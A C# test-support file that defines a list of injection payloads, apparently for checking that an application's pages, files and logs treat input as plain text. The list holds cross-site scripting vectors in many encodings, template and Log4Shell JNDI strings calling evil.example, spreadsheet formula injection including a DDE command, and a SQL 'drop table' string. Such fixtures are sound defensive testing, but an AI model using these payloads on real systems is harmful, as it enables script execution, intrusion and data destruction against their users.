namespace Adapter.EndToEnd.Support;

/// <summary>Texts that would do something if a page, a file or a log took them for more than a text.</summary>
static class Payloads
{
    public static IReadOnlyList<string> All { get; } =
    [
        // elements
        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "</script><script>alert(1)</script>",
        "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)//", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>", "<object data='data:text/html,<script>alert(1)</script>'>", "<embed src=javascript:alert(1)>",
        "<form><button formaction=javascript:alert(1)>x", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "<b style='background:url(//evil.example/x)'>x</b>",
        // svg and mathml
        "<svg onload=alert(1)>", "\"><svg/onload=alert(1)>", "<svg><script>alert&#40;1)</script>", "<svg><animate onbegin=alert(1) attributeName=x>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>",
        // out of an attribute or a script
        "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "\" autofocus onfocus=alert(1) x=\"", "`-alert(1)-`", "'-alert(1)-'", "\";alert(1);//",
        // addresses
        "javascript:alert(1)", "JaVaScRiPt:alert(1)//", "<a href=javascript:alert(1)>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "//evil.example/%2e%2e",
        // templates
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}<%= 7*7 %>", "@(alert(1))@onclick=alert(1)", "${jndi:ldap://evil.example/x}",
        // of this desk's own machinery, and scripts that its policy would let in
        "<!--Blazor:{\"type\":\"server\",\"sequence\":0}-->", "<div _bl_1 blazor:onclick=1 onclick=alert(1)>x</div>",
        "<a class=mud-button-root href=javascript:alert(1)>x</a>", "<script src=desk.js onload=alert(1)></script>", "<script src=data:,alert(1)></script>",
        // other ways to write it
        "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
        "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<scr\0ipt>alert(1)</scr\0ipt>", "\u202E>tpircs/<\u202C<b onclick=alert(1)>",
        "\u001B[31m<img src=x onerror=alert(1)>\u0007", "\u200B\uFEFF<img src=x onerror=alert(1)>",
        // formulas and statements
        "=cmd|'/C calc'!A0", "@SUM(1+1)*HYPERLINK(\"//evil.example\")", "'; drop table application; --",
    ];
}
